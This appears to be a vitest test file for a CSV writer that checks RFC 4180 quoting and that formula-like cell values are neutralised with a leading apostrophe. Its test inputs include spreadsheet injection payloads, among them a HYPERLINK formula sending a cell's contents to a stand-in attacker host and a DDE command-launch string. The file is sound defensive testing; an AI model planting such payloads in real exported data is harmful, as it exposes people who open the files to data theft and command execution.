import { expect, test } from "vitest";
import { csv } from "./csv.ts";

test("fields are quoted, quotes doubled, lines end as RFC 4180 wants it", () => {
  expect(
    csv([
      ["a", 'say "hi"', "x,y"],
      [1, null, "two\r\nlines"],
    ]),
  ).toBe('"a","say ""hi""","x,y"\r\n"1","","two\r\nlines"\r\n');
});

test.each([
  "=1+1",
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  "+1",
  "-1+1|cmd",
  "@SUM(A1:A9)",
  "\t=1",
  "\r=1",
  "\n=1",
  "\0=1",
  "  =1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "\tplain",
  '=cmd|" /C calc"!A0',
])("%j is no formula any more", (value) => {
  const written = csv([[value]]);
  expect(written.startsWith(`"'`)).toBe(true);
  expect(written.slice(2, -3).replaceAll('""', '"')).toBe(value);
});

test.each(["Ada", "ada+tag@example.test", "a=b", "O'Neil", "https://x.test/?a=-1"])(
  "%j stays as it is",
  (value) => expect(csv([[value]])).toBe(`"${value}"\r\n`),
);
